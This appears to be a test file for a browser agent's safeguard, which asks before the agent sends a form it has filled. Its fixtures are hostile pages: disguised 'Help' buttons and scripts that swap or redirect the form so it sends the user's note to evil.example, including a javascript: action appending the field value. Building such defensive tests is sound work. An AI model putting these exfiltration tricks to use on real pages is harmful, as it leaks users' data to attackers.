import { afterAll, beforeAll, expect, test } from 'vitest';
import { casesOf } from '../../support/cases.ts';
import { type Bench, createBench } from '../../support/page-bench.ts';
import { outlineOf, refIn } from '../../support/page-words.ts';
import { weigh } from '../../support/weigh.ts';

let bench: Bench;
beforeAll(async () => {
  bench = await createBench();
});
afterAll(() => bench.close());

const NOTE = '<label>Note <input name="note"></label>';
const form = (inside: string, more = '') => `<form id="f" action="/take" ${more}>${NOTE}${inside}</form>`;

/** A page whose field "Note" the run has filled, and the ref of what reads "Help". */
async function filled(html: string) {
  const opened = await bench.open(`${html}<p><button type="button">Honest</button></p>`);
  const note = refIn(outlineOf(await opened.tool('snapshot')), 'textbox "Note"');
  await opened.tool('fill', { ref: note, text: 'Between us' });
  const outline = outlineOf(await opened.tool('snapshot'));
  const ref = (words: string) => refIn(outline, words);
  const sent: string[] = [];
  await opened.page.route(/\/take|evil\.example/, (route) => {
    sent.push(route.request().url());
    return route.fulfill({ body: 'Taken' });
  });
  return { ...opened, note, ref, sent };
}

test.each(
  casesOf(2, [
    ['a button that reads like help', form('<button>Help</button>')],
    ['a link of the form', form('<a href="#" onclick="f.requestSubmit()">Help</a>')],
    ['a part of the form that takes clicks', form('<div onclick="f.requestSubmit()">Help</div>')],
    ['a button that stands elsewhere', `${form('')}<button form="f">Help</button>`],
    [
      'a picture that stands elsewhere',
      `${form('')}<input type="image" form="f" alt="Help" src="data:," width="30" height="30">`,
    ],
    [
      'text in a label of the button',
      `${form('<button id="go" aria-label="Go">Go</button>')}<label for="go"><span role="button" tabindex="0">Help</span></label>`,
    ],
    ['a button with an address of its own', form('<button formaction="https://evil.example/take">Help</button>')],
    [
      'a button in a dialog around the form',
      `<div role="dialog">${form('')}<button onclick="f.requestSubmit()">Help</button></div>`,
    ],
    [
      'a form put in place of the filled one',
      `${form('<button>Help</button>')}<script>
    addEventListener('change', () => setTimeout(() => { f.outerHTML = f.outerHTML.replace('/take', 'https://evil.example/'); }, 20));
  </script>`,
    ],
    [
      'a form that goes by other names and holds what was written',
      `${form('<button>Help</button>')}<script>
    addEventListener('change', ({ target }) => setTimeout(() => {
      f.outerHTML = '<form action="https://evil.example/"><input name="x" id="y"><input name="z" type="hidden"><button>Help</button></form>';
      document.querySelector('[name=z]').value = target.value;
    }, 20));
  </script>`,
    ],
  ]),
)('asks before it presses %s', async (_, html) => {
  const world = await filled(html);
  expect(await weigh(world, 'click', { ref: world.ref('Help') })).toMatchObject({
    kind: 'ask',
    effect: 'send',
    scopes: ['once'],
  });
  expect(await weigh(world, 'click', { ref: world.ref('Honest') })).toMatchObject({ kind: 'allow', effect: 'act' });
  expect(world.sent).toEqual([]);
});

test.each(
  casesOf(2, [
    ['another site', 'https://evil.example/take'],
    ['a mail address', 'mailto:t.fox@evil.example'],
    ['a script', "javascript:location = 'https://evil.example/' + f.note.value"],
    ['a text of its own', 'data:text/html,<p>Taken'],
  ]),
)('asks before it sends a form to %s, and nothing is sent meanwhile', async (_, action) => {
  const world = await filled(`<form id="f" action="${action}">${NOTE}<button>Help</button></form>`);
  for (const [tool, words] of [
    ['click', 'button "Help"'],
    ['press', 'textbox "Note"'],
  ] as const)
    expect(await weigh(world, tool, { ref: world.ref(words), key: 'Enter' })).toMatchObject({
      kind: 'ask',
      scopes: ['once'],
    });
  expect(world.sent).toEqual([]);
});

test.each(
  casesOf(2, [
    ['Enter in the field', 'Enter', 'textbox "Note"'],
    ['Enter in another field of the form', 'Enter', 'textbox "Other"'],
    ['Enter on the button', 'Enter', 'button "Help"'],
    ['space on the button', ' ', 'button "Help"'],
  ]),
)('asks before it presses %s', async (_, key, words) => {
  const world = await filled(form('<input aria-label="Other"><button>Help</button>'));
  expect(await weigh(world, 'press', { ref: world.ref(words), key })).toMatchObject({ kind: 'ask', effect: 'send' });
  expect(await weigh(world, 'press', { ref: world.ref('Honest'), key: 'Enter' })).toMatchObject({ kind: 'allow' });
});

test.each(
  casesOf(2, [
    ['a part of the page', '<div onclick="f.requestSubmit()">Help</div>'],
    ['a script that asks nobody', '<div onclick="f.submit()">Help</div>'],
    ['a script that asks nobody, with a hidden body', '<div onclick="f.method = `post`; f.submit()">Help</div>'],
    [
      'a button of a form without fields',
      '<form onsubmit="f.requestSubmit(); return false"><button>Help</button></form>',
    ],
    ['a choice', '<label><input type="checkbox" onchange="f.requestSubmit()"> Help</label>'],
  ]),
)('stops a form that %s elsewhere would send, and asks the next time', async (_, elsewhere) => {
  const world = await filled(`${form('')}${elsewhere}`);
  const ref = world.ref('Help');
  expect(await weigh(world, 'click', { ref })).toMatchObject({ kind: 'allow', effect: 'act' });
  const reply = await world.tool('click', { ref });
  expect(reply).toEqual({ kind: 'failed', message: expect.stringContaining('would have sent the form') });
  expect(world.sent).toEqual([]);
  expect(await weigh(world, 'click', { ref })).toMatchObject({ kind: 'ask', effect: 'send' });
  // The page goes away under the click.
  await world.tool('click', { ref }).catch(() => undefined);
  expect(world.sent).toHaveLength(1);
});

test('stops a form that is sent by a choice in it, and keeps the choice', async () => {
  const world = await filled(
    form('<select aria-label="Help" onchange="f.requestSubmit()"><option>One<option>Two</select>'),
  );
  const reply = await world.tool('select', { ref: world.ref('combobox "Help"'), option: 'Two' });
  expect(reply).toMatchObject({
    kind: 'done',
    changed: [expect.stringContaining('is now "Two"'), expect.stringContaining('stopped')],
  });
  expect(world.sent).toEqual([]);
});

test('sends a form of the page that the run has not filled, without asking', async () => {
  const world = await filled(
    `${form('')}<form action="/take"><input name="q" value="pumps" aria-label="Search"><button>Find</button></form>`,
  );
  expect(await weigh(world, 'click', { ref: world.ref('Find') })).toMatchObject({ kind: 'allow', effect: 'act' });
  await world.tool('click', { ref: world.ref('Find') }).catch(() => undefined);
  expect(world.sent).toHaveLength(1);
});
